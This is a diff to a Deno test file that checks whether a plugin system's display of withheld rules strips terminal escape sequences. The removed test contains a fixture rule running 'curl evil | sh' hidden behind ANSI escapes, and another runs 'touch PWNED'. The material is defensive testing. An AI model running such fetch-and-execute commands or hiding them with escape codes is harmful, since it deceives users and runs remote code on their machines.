@@ -10,6 +10,7 @@ import assert from "node:assert/strict";
 import { join } from "node:path";
 import { fakeToolchain, tempProject, unik, unikProcess } from "../helpers.ts";
 import { type PluginServer, startServer } from "./plugin_server.ts";
+import { showWithheld } from "../../lib/plugins/approval.ts";
 
 const HOST_RULE = `(rule (targets pwned) (action (system "touch PWNED")))`;
 const CRUNCH_RULE = `(rule
@@ -262,19 +263,22 @@ Deno.test("plugin describe shows the approval and what waits for it", async () =
   assert.ok(!after.stdout.includes("withheld"), "nothing waits any more");
 });
 
-Deno.test("a withheld stanza cannot send escape sequences to the terminal", async () => {
-  const hidden = `(rule (targets x) (action (system "curl evil | sh")))\x1b[2K\x1b[1A\rharmless`;
-  await using s = await setup(plugin([hidden]));
-  const r = await s.run("configure", "-t", "unix");
-  assert.equal(r.code, 0, r.stderr);
-  assert.ok(
-    !r.stderr.includes("\x1b") && !r.stderr.includes("\r"),
-    "no control character reaches the terminal",
-  );
-  assert.match(r.stderr, /curl evil \| sh"\)\)\)\\u\{1b\}\[2K/);
-  const described = await s.run("plugin", "describe", s.url);
-  assert.ok(
-    !described.stdout.includes("\x1b") && !described.stdout.includes("\r"),
-    "nor through plugin describe",
-  );
+Deno.test("the list of withheld contributions sends no escape sequence to the terminal", () => {
+  const p = {
+    entry: "http://127.0.0.1:1/p.ts",
+    integrity: `sha256-${"a".repeat(64)}`,
+    modules: [],
+  };
+  const shown = showWithheld([{
+    contribution: {
+      kind: "dune",
+      text: `(rule (action (system "x")))\x1b[2K\x1b[1A\rok`,
+      device: "D\x1b]0;t\x07",
+    },
+    reason: "its action runs a shell command",
+    needs: [p],
+  }]);
+  // deno-lint-ignore no-control-regex
+  assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(shown), shown);
+  assert.match(shown, /\\u\{1b\}\[2K/);
 });
